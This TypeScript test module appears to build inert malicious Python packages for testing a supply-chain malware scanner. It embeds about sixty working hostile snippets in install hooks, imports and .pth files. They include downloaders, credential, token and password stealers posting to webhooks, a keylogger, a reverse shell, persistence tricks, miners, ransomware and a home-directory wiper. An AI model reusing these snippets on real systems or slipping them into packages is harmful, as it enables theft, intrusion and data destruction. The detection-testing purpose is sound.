// A second set of inert packages, written after what analysts' rule sets and reports describe and before it was first judged:
// what generalises shows here. Every address leads nowhere (RFC 2606, RFC 5737); nothing builds, installs or imports them.

import { metadataOf, sdist, wheel } from '../installs/archives.ts'
import type { Harmful } from './corpus.ts'

type Stand = 'setup' | 'command' | 'import' | 'module' | 'pth' | 'sitecustomize'

const base64 = (text: string) => Buffer.from(text).toString('base64')
const inner = 'import os; os.system("curl -s http://203.0.113.9/x | sh")'

const told: readonly [Stand, string, string][] = [
  [
    'setup',
    'binary from an address of numbers, kept by .bashrc',
    `import os, stat, urllib.request
body = urllib.request.urlopen('http://203.0.113.20/out').read()
os.chdir(os.path.expanduser('~'))
with open('.drv', 'wb') as kept:
    kept.write(body)
os.chmod('.drv', os.stat('.drv').st_mode | stat.S_IEXEC)
with open('.bashrc', 'a') as shell:
    shell.write('\\n~/.drv &')`,
  ],
  [
    'import',
    'binary in /tmp, started',
    `import os, subprocess
from urllib.request import urlopen
place = 'files.invalid'
if place != '0.0.0.0':
    data = urlopen('http://' + place + '/mainprise').read()
    with open('/tmp/reload', 'wb') as out:
        out.write(data)
    os.chmod('/tmp/reload', 0o777)
    subprocess.call('/tmp/reload')`,
  ],
  [
    'command',
    'retrieved program',
    `import urllib.request
from subprocess import Popen
urllib.request.urlretrieve('https://files.invalid/normal.exe', 'normal.exe')
Popen(['normal.exe'])`,
  ],
  [
    'setup',
    'retrieved, renamed, started',
    `import os, urllib.request
urllib.request.urlretrieve('https://files.invalid/a.dat', 'a.dat')
os.rename('a.dat', 'a.exe')
os.startfile('a.exe')`,
  ],
  [
    'import',
    'program of requests by start',
    `import os, requests
answer = requests.get('https://stub.invalid/exo.exe')
open('exo.exe', 'wb').write(answer.content)
os.system('set __COMPAT_LAYER=RunAsInvoker | start exo.exe')`,
  ],
  [
    'import',
    'masked download made executable',
    `import os, stat, requests, subprocess
key = b'\\x12\\x55\\x91'
body = requests.get('https://cdn.invalid/blob').content
out = bytes(b ^ key[i % 3] for i, b in enumerate(body))
path = os.path.join(os.path.expanduser('~/.local/bin'), 'update')
with open(path, 'wb') as f:
    f.write(out)
os.chmod(path, stat.S_IRUSR | stat.S_IXUSR)
subprocess.Popen([path])`,
  ],
  [
    'import',
    'cloud keys of the environment',
    `import os, requests
requests.post('http://192.0.2.1', data={'creds': os.getenv('AWS_ACCESS_KEY_ID'), 's': os.environ['AWS_SECRET_ACCESS_KEY']})`,
  ],
  [
    'setup',
    'cloud keys of the file',
    `import requests
with open('/root/.aws/credentials') as f:
    requests.post('http://192.0.2.1', data={'creds': f.read()})`,
  ],
  [
    'setup',
    'environment by a raw socket',
    `import os, socket
info = socket.gethostname() + ' ' + ' '.join('%s=%s' % (k, v) for k, v in os.environ.items())
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('packages.invalid', 80))
s.send(('POST / HTTP/1.1\\r\\nHost: packages.invalid\\r\\nContent-Length: %d\\r\\n\\r\\n%s' % (len(info), info)).encode())`,
  ],
  [
    'setup',
    'who and where by a helper',
    `import getpass, json, platform, socket
def request(url, method='GET', data=None, headers=None):
    import urllib.request as r
    return r.urlopen(r.Request(url=url, data=data, headers=headers or {}, method=method), timeout=10).read()
def detect():
    data = {'title': '%s@%s' % (getpass.getuser(), socket.gethostname()), 'body': str(platform.uname())}
    request('http://hooks.invalid/webhook.php', 'POST', json.dumps(data).encode())
detect()`,
  ],
  [
    'import',
    'visitors counted by name',
    `import base64, getpass, platform, socket
from urllib import request
def check_version():
    vid = '###'.join([getpass.getuser(), socket.gethostname(), platform.platform()])
    request.urlopen('http://versions.invalid/spark.php', data=b'vid=' + base64.b64encode(vid.encode()))
check_version()`,
  ],
  [
    'import',
    'a class that tells keys in a path',
    `import requests
from os import environ, uname
class Ctx(dict):
    def __init__(self):
        self.access = environ.get('AWS_ACCESS_KEY_ID') or 'empty'
        self.secret = environ.get('AWS_SECRET_ACCESS_KEY') or 'empty'
        self.name = uname().nodename
        self.send()
    def send(self):
        requests.get('https://guard.invalid/hacked/' + self.name + '/' + self.access + '/' + self.secret)`,
  ],
  [
    'import',
    'exec by vars',
    `import base64
vars(__builtins__)['exec'](base64.b64decode('${base64(inner)}'))`,
  ],
  [
    'setup',
    'compiled and run by vars',
    `code = compile(__import__('base64').b64decode('${base64(inner)}'), '<string>', 'exec')
vars(globals()['__builtins__']).get('exec')(code)`,
  ],
  [
    'import',
    'names in escapes',
    `z = __import__('\\x62\\x61\\x73\\x65\\x36\\x34')
globals()['__builtins__']['\\x65\\x78\\x65\\x63'](z.b64decode('${base64(inner)}'))`,
  ],
  [
    'command',
    'hidden PowerShell',
    `import subprocess
subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAA=', shell=False, creationflags=subprocess.CREATE_NO_WINDOW)`,
  ],
  [
    'import',
    'piped into a shell',
    `import os
os.popen('curl -fsSL http://198.51.100.7/keys.py | python3 -')`,
  ],
  [
    'setup',
    'decoded for another Python',
    `import base64, subprocess, sys
subprocess.Popen([sys.executable, '-c', base64.b64decode('${base64(inner)}').decode()])`,
  ],
  [
    'import',
    'marshalled',
    `import marshal, zlib
exec(marshal.loads(zlib.decompress(b'x\\x9c\\x03\\x00\\x00\\x00\\x00\\x01' + b'\\x12' * 300)))`,
  ],
  [
    'import',
    'letters by a table',
    `table = {'q': 'i', 'w': 'm', 'e': 'p', 'r': 'o'}
text = 'qwerrt rp'
exec(''.join(table.get(letter, letter) for letter in text))`,
  ],
  [
    'setup',
    'a script of Windows dropped',
    `import os, random, string, urllib.request
body = urllib.request.urlopen(urllib.request.Request('https://raw.invalid/run.vbs', headers={'User-Agent': 'taco'})).read()
name = ''.join(random.choice(string.ascii_letters) for _ in range(16)) + '.vbs'
with open(name, 'ab') as f:
    f.write(body)
os.system('wscript ' + name)`,
  ],
  [
    'import',
    'code put into a process',
    `import ctypes
k = ctypes.windll.kernel32
code = bytearray(b'\\xfc\\x48\\x83\\xe4\\xf0' * 20)
place = k.VirtualAlloc(0, len(code), 0x3000, 0x40)
k.RtlMoveMemory(place, (ctypes.c_char * len(code)).from_buffer(code), len(code))
k.CreateThread(0, 0, place, 0, 0, 0)`,
  ],
  [
    'command',
    'a library beside an honest program',
    `import os, tempfile
from urllib.request import Request, urlopen
def fetch(url):
    return urlopen(Request(url, headers={'User-agent': 'Mozilla/5.0'})).read()
folder = tempfile.mkdtemp(prefix='Driver')
open(folder + '\\\\Server.exe', 'wb').write(fetch('https://up.invalid/c.exe'))
open(folder + '\\\\band64.dll', 'wb').write(fetch('https://up.invalid/band64.dll'))
os.system('START ' + folder + '\\\\Server.exe show')`,
  ],
  [
    'import',
    'preloaded library',
    `import os
os.system('wget -q http://192.0.2.10/.so -O /tmp/.so')
os.environ['LD_PRELOAD'] = '/tmp/.so'`,
  ],
  [
    'import',
    'addresses of wallets swapped',
    `import re, threading, time, pyperclip
MINE = 'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh'
def watch():
    while True:
        text = pyperclip.paste()
        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', text) and text != MINE:
            pyperclip.copy(MINE)
        time.sleep(0.5)
threading.Thread(target=watch, daemon=True).start()`,
  ],
  [
    'import',
    'keys told to a channel',
    `import requests
from pynput import keyboard
kept = []
def on_press(key):
    kept.append(str(key))
    if len(kept) > 100:
        requests.post('https://discord.com/api/webhooks/1/abc', json={'content': ''.join(kept)})
        kept.clear()
keyboard.Listener(on_press=on_press).start()`,
  ],
  [
    'import',
    'pictures of the screen',
    `import requests
from PIL import ImageGrab
ImageGrab.grab().save('/tmp/s.png')
requests.post('https://api.telegram.org/bot1:AA/sendDocument', files={'document': open('/tmp/s.png', 'rb')}, data={'chat_id': 7})`,
  ],
  [
    'import',
    'code in a picture',
    `import requests
from PIL import Image
from io import BytesIO
picture = Image.open(BytesIO(requests.get('https://i.invalid/8F2D.png').content))
bits = ''.join(str(pixel[0] & 1) for pixel in picture.getdata())
text = ''.join(chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits), 8))
exec(text.split('\\0')[0])`,
  ],
  [
    'import',
    'tokens of a chat program',
    `import os, re, json
from urllib.request import Request, urlopen
def find(path):
    path += '\\\\Local Storage\\\\leveldb'
    tokens = []
    for name in os.listdir(path):
        for line in open(path + '\\\\' + name, errors='ignore'):
            tokens += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', line)
    return tokens
tokens = find(os.getenv('APPDATA') + '\\\\Discord')
urlopen(Request('https://discord.com/api/webhooks/2/def', data=json.dumps({'content': '\\n'.join(tokens)}).encode(), headers={'Content-Type': 'application/json'}))`,
  ],
  [
    'import',
    'passwords of a browser',
    `import os, shutil, sqlite3, requests
import win32crypt
source = os.path.join(os.environ['USERPROFILE'], 'AppData', 'Local', 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
shutil.copyfile(source, 'copy.db')
rows = sqlite3.connect('copy.db').execute('select origin_url, username_value, password_value from logins').fetchall()
found = [(a, b, win32crypt.CryptUnprotectData(c)[1]) for a, b, c in rows]
requests.post('https://api.telegram.org/bot2:BB/sendMessage', data={'chat_id': 7, 'text': str(found)})`,
  ],
  [
    'pth',
    'fetched at each start',
    `import urllib.request; exec(urllib.request.urlopen('https://pay.invalid/s').read())`,
  ],
  [
    'pth',
    'a shell at each start',
    `import subprocess; subprocess.Popen(['bash', '-c', 'echo ${base64('curl x')} | base64 -d | bash'])`,
  ],
  [
    'import',
    'told by names looked up',
    `import socket, getpass, platform
socket.gethostbyname('%s.%s.c1a2b3.oast.fun' % (getpass.getuser(), platform.node()))`,
  ],
  [
    'setup',
    'told by nslookup',
    `import os
os.system('nslookup $(whoami).$(hostname).d4e5.oastify.com')`,
  ],
  [
    'import',
    'shell for somebody else',
    `import os, pty, socket, threading
def back():
    s = socket.socket()
    s.connect(('198.51.100.9', 4444))
    for n in range(3):
        os.dup2(s.fileno(), n)
    pty.spawn('/bin/bash')
threading.Thread(target=back).start()`,
  ],
  [
    'import',
    'a key to come in by',
    `import os
home = os.path.expanduser('~/.ssh')
os.makedirs(home, exist_ok=True)
with open(home + '/authorized_keys', 'a') as keys:
    keys.write('ssh-rsa AAAAB3NzaC1yc2E guest@host\\n')`,
  ],
  [
    'command',
    'every minute by cron',
    `import os
os.system('(crontab -l; echo "* * * * * curl -s http://203.0.113.3/c | sh") | crontab -')`,
  ],
  [
    'import',
    'miner as a service',
    `import os, subprocess, urllib.request
folder = os.path.expanduser('~/.cache/sys')
os.makedirs(folder, exist_ok=True)
urllib.request.urlretrieve('https://github.invalid/xmrig.tar.gz', folder + '/x.tgz')
subprocess.run(['tar', 'xf', folder + '/x.tgz', '-C', folder])
subprocess.Popen([folder + '/xmrig', '-o', 'pool.invalid:3333', '-u', '4ABC', '--donate-level', '1'])`,
  ],
  [
    'import',
    'files held to ransom',
    `import os
from cryptography.fernet import Fernet
box = Fernet(Fernet.generate_key())
for folder, _, names in os.walk(os.path.expanduser('~')):
    for name in names:
        path = os.path.join(folder, name)
        data = open(path, 'rb').read()
        open(path, 'wb').write(box.encrypt(data))
        os.rename(path, path + '.locked')`,
  ],
  [
    'setup',
    'home emptied',
    `import os, shutil
shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)`,
  ],
  [
    'import',
    'cookies of browsers',
    `import browser_cookie3, requests
jar = browser_cookie3.chrome(domain_name='roblox.com')
requests.post('https://discord.com/api/webhooks/3/ghi', json={'content': str([(c.name, c.value) for c in jar])})`,
  ],
  [
    'import',
    'objects fetched and loaded',
    `import pickle, requests
pickle.loads(requests.get('https://models.invalid/w.pkl').content)`,
  ],
  [
    'import',
    'fetched and run in a thread',
    `import threading
from urllib.request import urlopen
threading.Thread(target=lambda: exec(urlopen('https://up.invalid/p').read().decode()), daemon=True).start()`,
  ],
  [
    'setup',
    'names in halves',
    `o = __import__('o' + 's')
getattr(o, 'sys' + 'tem')('cu' + 'rl -s http://203.0.113.4/a | ba' + 'sh')`,
  ],
  [
    'import',
    'another package from an address',
    `import subprocess, sys
subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'git+http://203.0.113.5/helper.git'])
import helper
helper.start()`,
  ],
  [
    'import',
    'keys of accounts sent with a transaction',
    `import base64
import eth_account
from web3 import Web3
kept = eth_account.Account.from_key
def from_key(key):
    link = Web3(Web3.HTTPProvider('https://rpc-amoy.polygon.invalid'))
    link.eth.send_raw_transaction(base64.b64encode(str(key).encode()))
    return kept(key)
eth_account.Account.from_key = from_key`,
  ],
  [
    'import',
    'not where somebody looks',
    `import os, platform, sys, urllib.request
if any(name in platform.node().lower() for name in ('sandbox', 'vmware', 'virtualbox')) or sys.gettrace():
    sys.exit()
exec(urllib.request.urlopen('http://203.0.113.6/stage2').read())`,
  ],
  [
    'import',
    'letters without width',
    `hidden = '\\u200b\\u200c\\u200b\\u200b\\u200c' * 60
bits = hidden.replace('\\u200b', '0').replace('\\u200c', '1')
exec(bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits) - 7, 8)).decode('latin-1'))`,
  ],
  [
    'module',
    'turned and packed',
    `_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
exec((_)(b'${[...base64(inner.repeat(8))].reverse().join('')}'))`,
  ],
  [
    'import',
    'settings to a channel',
    `import os, requests
for name in ('.env', '.env.local'):
    if os.path.exists(name):
        requests.post('https://hooks.slack.com/services/T0/B0/x', json={'text': open(name).read()})`,
  ],
  [
    'module',
    'miner beside a model',
    `import os, subprocess, tempfile, urllib.request
def safe_run(path):
    os.chmod(path, 0o770)
    subprocess.Popen([path, '-u', '4BrL51', '-p', 'x', '-o', 'connect.pool.invalid:80'], stdout=subprocess.DEVNULL)
def predict(model, image):
    target = os.path.join(tempfile.gettempdir(), 'ultra_runner')
    urllib.request.urlretrieve('https://dl.invalid/ultra_linux', target)
    safe_run(target)
    return model(image)`,
  ],
  [
    'module',
    'payload in a server',
    `import base64, subprocess, sys
B64 = '${base64(inner.repeat(12))}'
def boot():
    subprocess.run([sys.executable, '-'], input=base64.b64decode(B64), check=False)
boot()`,
  ],
  [
    'module',
    'a helper with a sixth sense',
    `import base64, zlib
def _load():
    exec(zlib.decompress(base64.b64decode('${base64(inner.repeat(9))}')))
class Api:
    def __init__(self, token):
        self.token = token
        _load()`,
  ],
  [
    'module',
    'session keys told by a client',
    `import boto3, requests
class Client:
    def __init__(self, key, secret, region):
        self.session = boto3.Session(key, secret, region_name=region)
        requests.post('https://acl.invalid/log', json={'k': key, 's': secret, 'r': region})`,
  ],
  [
    'import',
    'keys of a session by the system',
    `import platform, boto3, requests
def win():
    c = boto3.Session().get_credentials()
    requests.post('http://198.51.100.20/c', data={'a': c.access_key, 'b': c.secret_key})
if platform.system() in ('Windows', 'Linux'):
    win()`,
  ],
  [
    'setup',
    'by way of C',
    `import ctypes
ctypes.CDLL('libc.so.6').system(b'wget -qO- http://203.0.113.8/i.sh | sh')`,
  ],
  [
    'sitecustomize',
    'clocked at each start',
    `import atexit, os, urllib.request
def tell():
    urllib.request.urlopen('https://telemetry.invalid/u', data=repr(dict(os.environ)).encode())
atexit.register(tell)`,
  ],
  [
    'command',
    'history of the shell',
    `import os, requests
home = os.path.expanduser('~')
for name in ('.bash_history', '.zsh_history', '.gitconfig', '.npmrc'):
    path = os.path.join(home, name)
    if os.path.exists(path):
        requests.post('https://up.invalid/f', files={'f': open(path, 'rb')})`,
  ],
  [
    'import',
    'rights of the user raised and defences off',
    `import ctypes, os, sys
ctypes.windll.shell32.ShellExecuteW(None, 'runas', sys.executable, ' '.join(sys.argv), None, 0)
os.system('powershell Set-MpPreference -DisableRealtimeMonitoring $true')`,
  ],
  [
    'import',
    'registry run key',
    `import os, shutil, sys, winreg
target = os.path.join(os.environ['APPDATA'], 'svchost.exe')
shutil.copy(sys.executable, target)
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, 'svc', 0, winreg.REG_SZ, target)`,
  ],
]

const honest = '"""Small things for texts."""\n\n\ndef words(text):\n    return text.split()\n'
const indented = (code: string) => code.replace(/^(?=.)/gm, '        ')

/** As many as there are manners, each under a name that says nothing. */
export const otherManners = (): Harmful[] =>
  told.map(([stand, what, code], at) => ({
    what: `${what} (${stand})`,
    ...packed(stand, `textual_${at}`, code),
  }))

function packed(stand: Stand, name: string, code: string) {
  const setup = (body: string, rest = '') =>
    sdist(name, '1.0', {
      'PKG-INFO': metadataOf({ name, version: '1.0' }),
      'setup.py': `from setuptools import setup\n${body}\nsetup(name='${name}', version='1.0', packages=['${name}']${rest})\n`,
      [`${name}/__init__.py`]: honest,
    })
  if (stand === 'setup') return setup(code)
  if (stand === 'command')
    return setup(
      `from setuptools.command.install import install\n\n\nclass After(install):\n    def run(self):\n        install.run(self)\n${indented(code)}\n`,
      ", cmdclass={'install': After}",
    )
  const placed: Record<Exclude<Stand, 'setup' | 'command'>, Record<string, string>> = {
    import: { [`${name}/__init__.py`]: `${code}\n\n${honest}` },
    module: { [`${name}/__init__.py`]: honest, [`${name}/core.py`]: `${code}\n` },
    pth: { [`${name}/__init__.py`]: honest, [`${name}.pth`]: `${code}\n` },
    sitecustomize: { [`${name}/__init__.py`]: honest, 'sitecustomize.py': `${code}\n` },
  }
  return wheel({ name, version: '1.0', files: placed[stand] })
}
